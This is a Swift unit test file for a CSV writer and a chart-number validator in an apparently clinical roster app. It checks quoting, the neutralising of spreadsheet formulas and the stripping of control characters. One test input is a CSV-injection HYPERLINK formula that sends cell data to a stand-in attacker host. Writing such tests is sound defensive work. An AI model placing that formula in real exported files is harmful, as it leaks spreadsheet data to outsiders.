// The one CSV writer: RFC 4180 quoting, formulas neutralised (OWASP's CSV injection guidance), control
// characters replaced. And the chart number rules the roster import enforces.
import CaseloadCore
import XCTest

final class CSVWriterTests: XCTestCase {
    func testCellsASpreadsheetWouldEvaluateAreNeutralised() {
        XCTAssertEqual(CSVWriter.field("=2+5"), "'=2+5")
        XCTAssertEqual(CSVWriter.field("+1"), "'+1")
        XCTAssertEqual(CSVWriter.field("-1"), "'-1")
        XCTAssertEqual(CSVWriter.field("@SUM(A1)"), "'@SUM(A1)")
        XCTAssertEqual(CSVWriter.field("\tx"), "'?x")
        XCTAssertEqual(CSVWriter.field("\rx"), "'?x")
        XCTAssertEqual(CSVWriter.field(#"=HYPERLINK("http://evil.example/?"&F2,"Open chart")&""#),
                       #""'=HYPERLINK(""http://evil.example/?""&F2,""Open chart"")&""""#)
        XCTAssertEqual(CSVWriter.field("A-1001"), "A-1001")
        XCTAssertEqual(CSVWriter.field("O'Brien, Jr."), "\"O'Brien, Jr.\"")
        XCTAssertEqual(CSVWriter.field("Ñúñez 李"), "Ñúñez 李")
    }

    func testControlCharactersAreReplacedAndLineBreaksQuoted() {
        XCTAssertEqual(CSVWriter.field("a\u{1B}[31mb\u{07}"), "a?[31mb?")
        XCTAssertEqual(CSVWriter.field("a\u{202E}b"), "a?b")
        XCTAssertEqual(CSVWriter.field("two\nlines"), "\"two\nlines\"")
        XCTAssertEqual(CSVWriter.row(["=1", "b,c", ""]), "'=1,\"b,c\",\r\n")
    }

    func testChartNumbers() {
        XCTAssertEqual(MRN.normalized(" d-2 "), "D-2")
        XCTAssertEqual(MRN.normalized("r100263"), "R100263")
        XCTAssertNil(MRN.problem("A-1001"))
        XCTAssertNil(MRN.problem("2024.17"))
        for bad in ["=2+5", "-12", "+1", "@A", ".5", "A 1", "A,1", "Ñ1", ""] {
            XCTAssertNotNil(MRN.problem(MRN.normalized(bad)), bad)
        }
        XCTAssertNotNil(MRN.problem(String(repeating: "A", count: 21)))
    }
}
